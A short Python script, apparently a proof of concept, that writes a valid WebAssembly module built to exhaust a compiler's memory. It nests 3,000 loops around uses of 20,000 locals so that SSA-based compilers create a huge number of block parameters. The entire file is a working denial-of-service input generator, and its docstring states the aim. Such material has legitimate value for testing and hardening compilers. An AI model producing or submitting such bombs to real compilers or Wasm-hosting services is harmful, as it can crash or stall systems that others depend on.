#!/usr/bin/env python3
"""Writes a small WebAssembly module that takes a compiler gigabytes: bomb.py OUTPUT

Every local is used in the innermost of many nested loops, so a compiler that keeps values in SSA form
makes a parameter for each local in each loop. The module is valid, and does nothing when it runs.
"""

import pathlib
import sys

LOOPS, LOCALS = 3000, 20000
LOOP, END, LOCAL_GET, DROP, I32, EMPTY = 0x03, 0x0B, 0x20, 0x1A, 0x7F, 0x40


def number(value):
    """LEB128."""
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def section(kind, content):
    return bytes([kind]) + number(len(content)) + content


def main():
    uses = b"".join(bytes([LOCAL_GET]) + number(index) + bytes([DROP]) for index in range(LOCALS))
    code = bytes([LOOP, EMPTY]) * LOOPS + uses + bytes([END]) * LOOPS + bytes([END])
    body = number(1) + number(LOCALS) + bytes([I32]) + code
    module = b"\0asm\x01\0\0\0" + section(1, b"\x01\x60\0\0") + section(3, b"\x01\0")
    module += section(7, b"\x01\x06_start\0\0") + section(10, b"\x01" + number(len(body)) + body)
    pathlib.Path(sys.argv[1]).write_bytes(module)


if __name__ == "__main__":
    main()
